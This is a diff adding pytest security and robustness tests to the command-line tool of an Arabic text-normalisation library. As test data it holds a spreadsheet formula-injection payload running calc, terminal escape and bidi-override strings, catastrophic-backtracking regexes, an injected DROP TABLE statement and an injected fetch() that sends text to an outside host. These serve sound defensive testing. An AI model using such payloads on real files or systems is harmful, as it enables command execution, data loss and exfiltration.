@@ -4,10 +4,14 @@ from __future__ import annotations
 
 import bz2
 import codecs
+import csv
+import errno
 import gzip
 import json
 import lzma
+import multiprocessing
 import os
+import signal
 import subprocess
 import sys
 import tempfile
@@ -23,6 +27,9 @@ except ImportError:
 else:
     zstd = ZstdCompressor(write_checksum=True)
 
+import arnorm
+from arnorm import Pipeline
+from arnorm.cli import _run
 from cli_run import COMMAND, STEPS, Call, environment, peak_of
 
 TEXT, CLEAN = "عَام ١٤٤٦\n", "عام 1446\n"
@@ -349,8 +356,163 @@ def test_names_cannot_play_tricks_on_a_terminal(call: Call, tmp_path: Path, monk
         assert safe in said
         assert not set("\x1b\x9b\r\u202e") & set(said)
     assert r"none\x1b" in call("none\x1b")[2]
-    assert json.loads(call("--numbers", path)[1].splitlines()[0])["file"] == name
+    for find in (["--numbers"], ["find", "numbers"]):
+        _, out, _ = call(*find, path)
+        assert json.loads(out.splitlines()[0])["file"] == name
+        assert not set("\x1b\x9b\r\u202e") & set(out.decode())
+    _, out, _ = call("find", "numbers", "--csv", path)
+    assert safe in out.decode()
+    assert not set("\x1b\x9b\r\u202e") & set(out.decode())
     assert call("--numbers", "-o", "rows.jsonl", path)[0] == 0
+    path.write_text('{"id": "=1", "text": "نص\u202e ٥\x9b"}\n', encoding="utf-8")
+    row = call("find", "sentences", "--format", "jsonl", path)[1].decode()
+    assert json.loads(row)["text"] == "نص\u202e ٥\x9b"
+    assert not set("\x9b\u202e") & set(row)
+
+
+def test_formulas_of_a_listing_are_escaped_where_that_is_asked_for(call: Call, tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    rows = [{"id": "=cmd|' /C calc'!A1", "text": "-٥ درجات"}, {"id": "@x", "text": "=٥ درجات."}]
+    Path("=1+1.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
+    for kind in ("numbers", "sentences", "amounts", "dates"):
+        plain, escaped = (
+            [*csv.reader(call("find", kind, "--csv", "--id", "id", *more, "=1+1.jsonl")[1].decode().splitlines())]
+            for more in ((), ("--escape-formulas",))
+        )
+        assert len(plain) == len(escaped)
+        for before, after in zip(plain, escaped, strict=True):
+            assert [cell.removeprefix("'") for cell in after] == before
+            assert not any(cell[:1] in "=+-@＝" for cell in (after[0], after[2], after[5]) if cell)
+        assert all(cell not in {"'-5", "'5"} for row in escaped for cell in row), "a number is no formula"
+
+
+def test_a_worker_that_is_killed_is_one_line(call: Call, tmp_path: Path, monkeypatch) -> None:
+    if multiprocessing.get_start_method() != "fork":
+        pytest.skip("only a forked worker is changed by this test")
+    real = _run.Work.work_on
+
+    def work_on(self, batch):
+        if any("قتل" in text for text in batch[0]):
+            os.kill(os.getpid(), signal.SIGKILL)
+        return real(self, batch)
+
+    monkeypatch.setattr(_run.Work, "work_on", work_on)
+    monkeypatch.setattr(_run, "BATCH_TEXTS", 10)
+    monkeypatch.chdir(tmp_path)
+    Path("in").mkdir()
+    for number in range(200):
+        Path(f"in/{number:03}.txt").write_text("قتل" if number == 150 else TEXT, encoding="utf-8")
+    said = "arnorm: a worker process was killed, as systems do without memory: "
+    status, out, err = call(*STEPS, "-j", "2", "-o", "out", "in")
+    assert (status, out, err.count("\n")) == (1, b"", 1)
+    written = len(list(Path("out").iterdir()))
+    assert err == f"{said}{written} of 200 files were written, in/{written:03}.txt and those after it were not\n"
+    Path("all.txt").write_text("old")
+    status, out, err = call(*STEPS, "-j", "2", "--dates", "-o", "all.txt", "in")
+    assert (status, out, err) == (1, b"", f"{said}all.txt was not written\n")
+    assert Path("all.txt").read_text() == "old"
+    status, out, err = call(*STEPS, "-j", "2", "in")
+    assert (status, err.count("\n")) == (1, 1)
+    assert err.startswith(f"{said}the output ends in in/")
+
+
+@pytest.fixture
+def exported(call: Call, folder: Path) -> Path:
+    assert call("export", "LUCENE", "--to", "postgres", "-o", "lucene.sql")[0] == 0
+    return folder / "lucene.sql"
+
+
+def test_an_export_loses_no_file(call: Call, exported: Path, monkeypatch) -> None:
+    before = contents(exported.parent)
+    for out in ("p.json", "./p.json", "link.json"):
+        if out == "link.json":
+            (exported.parent / out).symlink_to("p.json")
+            before = contents(exported.parent)
+        status, _, err = call("export", "--pipeline", "p.json", "--to", "json", "-o", out)
+        assert (status, err) == (2, f"arnorm: error: --out {Path(out)}: is the pipeline, which would be lost\n")
+    assert contents(exported.parent) == before
+
+    def fail(*_: object) -> None:
+        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+    monkeypatch.setattr(os, "fsync", fail)
+    status, _, err = call("export", "SEARCH", "--exportable", "--to", "sqlite", "-o", "lucene.sql")
+    assert (status, err) == (2, "arnorm: error: lucene.sql: No space left on device\n")
+    assert contents(exported.parent) == before
+
+
+def test_an_export_is_no_way_into_a_terminal(call: Call, exported: Path) -> None:
+    name = "a\x1b[31m\x9b\u202eb.sql"
+    text = exported.read_text(encoding="utf-8")
+    hostile = text.replace('"fingerprint": "', '"fingerprint": "' + "\x9b\u202e" + r"\u001b[2J" + "x" * 9000)
+    steps = text.replace('"step": "', '"step": "' + "\x9b\u202e" + r"\u001b[2J")
+    for content, status in ((text, 0), (hostile, 1), (steps, 1), ("nothing", 1), (b"\xff".decode("latin-1"), 1)):
+        Path(name).write_text(content, encoding="utf-8")
+        got, out, err = call("verify", name)
+        said = out.decode() + err
+        assert (got, said.count("\n")) == (status, 1)
+        assert not set("\x1b\x9b\u202e") & set(said)
+        assert r"a\x1b[31m\x9b\u202eb.sql" in said
+        assert len(said) < 1000
+    assert "\x1b" not in call("export", "--pipeline", name + "2", "--to", "json")[2]
+
+
+@pytest.mark.parametrize("vectors", ["5", "[5]", "[[1, 2]]", '[["a"]]', '{"a": 1}', "null", '"text"'])
+def test_a_broken_export_is_one_line(call: Call, exported: Path, vectors: str) -> None:
+    text = exported.read_text(encoding="utf-8")
+    at = text.index('"vectors": ') + 11
+    exported.write_text(text[:at] + vectors + "}\n" + text[text.index("\n", at) :], encoding="utf-8")
+    status, out, err = call("verify", exported)
+    assert (status, out, err.count("\n")) == (1, b"", 1)
+
+
+def test_what_never_ends_is_no_export(call: Call, exported: Path) -> None:
+    os.mkfifo("pipe")
+    for path in ("pipe", "/dev/zero", "."):
+        status, out, err = call("verify", path)
+        assert (status, out, err.count("\n")) == (1, b"", 1)
+    with open("sparse", "wb") as file:
+        file.truncate(1 << 40)
+    assert "longer than 134,217,728 bytes" in call("verify", "sparse")[2]
+    text = exported.read_text(encoding="utf-8")
+    for protect in (["(a|aa)+$"], ["(?:x+x+)+y"]):
+        about = json.loads(text.splitlines()[1].partition(": ")[2])
+        about["pipeline"] = about["pipeline"] | {"protect": protect}
+        about["vectors"] = [["a" * 4000 + "b", ""], ["x" * 4000, ""]]
+        exported.write_text(json.dumps(about), encoding="utf-8")
+        assert "cannot export all" in call("verify", exported)[1].decode()
+        about["pipeline"] = json.loads(Pipeline(arnorm.replace_pattern(pattern=protect[0], to="")).to_json())
+        exported.write_text(json.dumps(about), encoding="utf-8")
+        assert "cannot export all" in call("verify", exported)[1].decode()
+
+
+@pytest.mark.parametrize("to", ["postgres", "sqlite", "javascript", "json", "elasticsearch"])
+def test_verify_notices_what_was_added_to_a_file(call: Call, tmp_path: Path, to: str) -> None:
+    path = tmp_path / "export"
+    assert call("export", "LUCENE", "--to", to, "--name", "mine", "-o", path)[0] == 0
+    assert call("verify", path)[0] == 0
+    text = path.read_text(encoding="utf-8")
+    added = {
+        "postgres": text + "DROP TABLE page;\n",
+        "sqlite": text.replace("COMMIT;", "DROP TABLE page;\nCOMMIT;"),
+        "javascript": text.replace("  return text;", "  fetch('https://example.org/' + text);\n  return text;"),
+        "json": text.replace('"rules": [', '"rules": [{"table": {"a": "b"}, "before": "", "after": ""}, '),
+    }
+    if to in added:
+        assert added[to] != text
+        path.write_text(added[to], encoding="utf-8")
+        status, out, _ = call("verify", path)
+        assert (status, "Changed since it was written" in out.decode()) == (1, True)
+    else:
+        assert "not the rest of the file" in call("verify", path)[1].decode()
+    other = text.replace(f'"arnorm": "{arnorm.__version__}"', '"arnorm": "0.0.9"')
+    path.write_text(other, encoding="utf-8")
+    assert call("verify", path)[0] == 0
+
+
+def test_an_explanation_is_one_line_that_no_terminal_obeys() -> None:
+    (one,) = arnorm.explain("قال «نعم\n\x1b[2J\u202e\x9b»")
+    assert str(one).endswith(r"«نعم\n\x1b[2J\u202e\x9b»")
 
 
 @pytest.mark.parametrize("escaped", [False, True])
